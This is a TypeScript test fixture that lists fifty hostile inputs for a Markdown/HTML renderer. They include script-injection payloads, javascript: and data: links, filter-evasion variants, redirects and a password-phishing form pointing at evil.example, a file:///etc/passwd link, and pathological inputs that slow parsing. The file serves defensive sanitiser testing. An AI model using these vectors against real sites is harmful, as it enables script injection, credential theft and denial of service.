/** Fifty hostile texts that would do harm or take long if rendered carelessly, by kind of attack. */
export function hostileTexts(): [name: string, text: string][] {
  return [...markup, ...links, ...repeated].map(([name, text]) => [name, `A plain beginning.\n\n${text}`]);
}

const MANY = 20_000;
const repeat = (piece: string, times = MANY): string => piece.repeat(times).slice(0, 60_000);

const markup: [string, string][] = [
  ['a script', '<script>window.harmed=1</script>'],
  ['a script in capitals with blanks', '<SCRIPT >window.harmed=1</SCRIPT >'],
  ['a script in a script', '<scr<script>ipt>window.harmed=1</scr</script>ipt>'],
  ['a picture that fails', '<img src=x onerror="window.harmed=1">'],
  ['a picture that fails, unclosed', '<img src=x onerror=window.harmed=1 '],
  ['a drawing that loads', '<svg onload="window.harmed=1"><circle r="1"/></svg>'],
  ['a script in a drawing', '<svg><script>window.harmed=1</script></svg>'],
  ['a foreign object', '<svg><foreignObject><iframe src="javascript:1"></iframe></foreignObject></svg>'],
  ['a frame', '<iframe src="https://evil.example"></iframe>'],
  ['a frame with a page in it', '<iframe srcdoc="<script>window.harmed=1</script>"></iframe>'],
  ['an object', '<object data="data:text/html,<script>1</script>"></object>'],
  ['an embedding', '<embed src="https://evil.example/x.swf">'],
  ['a form', '<form action="https://evil.example"><input name="password"><button>Log in</button></form>'],
  ['a style', '<style>body{display:none}</style>'],
  ['a style that loads', '<p style="background:url(https://evil.example/x)">x</p>'],
  ['another base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'],
  ['an element with a handler', '<details open ontoggle="window.harmed=1">x</details>'],
  ['a name of the page', '<a id="__proto__" name="location">x</a>'],
  ['mathematics that hides', '<math><mtext><table><mglyph><style><img src=x onerror=window.harmed=1></style></math>'],
  ['a comment that ends twice', '<!--><img src=x onerror=window.harmed=1>-->'],
  ['character data', '<![CDATA[<img src=x onerror=window.harmed=1>]]>'],
  ['entities', '&lt;script&gt;window.harmed=1&lt;/script&gt; &#60;img src=x onerror=window.harmed=1&#62;'],
  ['a template', '<template><script>window.harmed=1</script></template>'],
  ['a quoted end of a table', '| a |\n|---|\n| </td></tr></table><script>window.harmed=1</script> |'],
  ['markup in a code block', '```"><script>window.harmed=1</script>\n<script>window.harmed=1</script>\n```'],
  ['a nought', 'nought \u0000 <script\u0000>window.harmed=1</script>'],
];

const links: [string, string][] = [
  ['a link that runs', '[x](javascript:window.harmed=1)'],
  ['a link that runs, in capitals', '[x](JaVaScRiPt:window.harmed=1)'],
  ['a link that runs, with entities', '[x](javascript&#58;window.harmed=1) [y](&#106;avascript:1)'],
  ['a link that runs, with a tab', '[x](java\tscript:window.harmed=1) [y](<java\nscript:1>)'],
  ['a link to data', '[x](data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+)'],
  ['a link to a script of old', '[x](vbscript:msgbox) [y](file:///etc/passwd)'],
  ['an address that runs', '<javascript:window.harmed=1>'],
  ['a link by reference', '[x]\n\n[x]: javascript:window.harmed=1'],
  ['a link that leaves its quotes', '[x](https://a.example/"onmouseover="window.harmed=1)'],
  ['a title that leaves its quotes', '[x](https://a.example "\\" onmouseover=\\"window.harmed=1")'],
  ['a link without a scheme', '[x](//evil.example)'],
  ['a picture', '![x](https://evil.example/pixel.png) ![y](javascript:1)'],
];

const repeated: [string, string][] = [
  ['links that never close', repeat('[a](b')],
  ['brackets that never close', repeat('[')],
  ['brackets and brackets', `${repeat('[', 10_000)}${repeat(']', 10_000)}`],
  ['stars', repeat('*a **b ')],
  ['quotes in quotes', repeat('> ', 5000)],
  ['lists in lists', Array.from({ length: 300 }, (_, depth) => `${' '.repeat(depth * 2)}- a`).join('\n')],
  ['ticks of growing number', Array.from({ length: 300 }, (_, count) => '`'.repeat(count + 1)).join(' a ')],
  [
    'a table of many columns',
    `${repeat('|a', 2000)}|\n${repeat('|-', 2000)}|\n${`${repeat('|b', 2000)}|\n`.repeat(12)}`.slice(0, 60_000),
  ],
  ['references', Array.from({ length: 3000 }, (_, count) => `[a${count}]: /b`).join('\n')],
  ['tags that never close', repeat('<a ')],
];
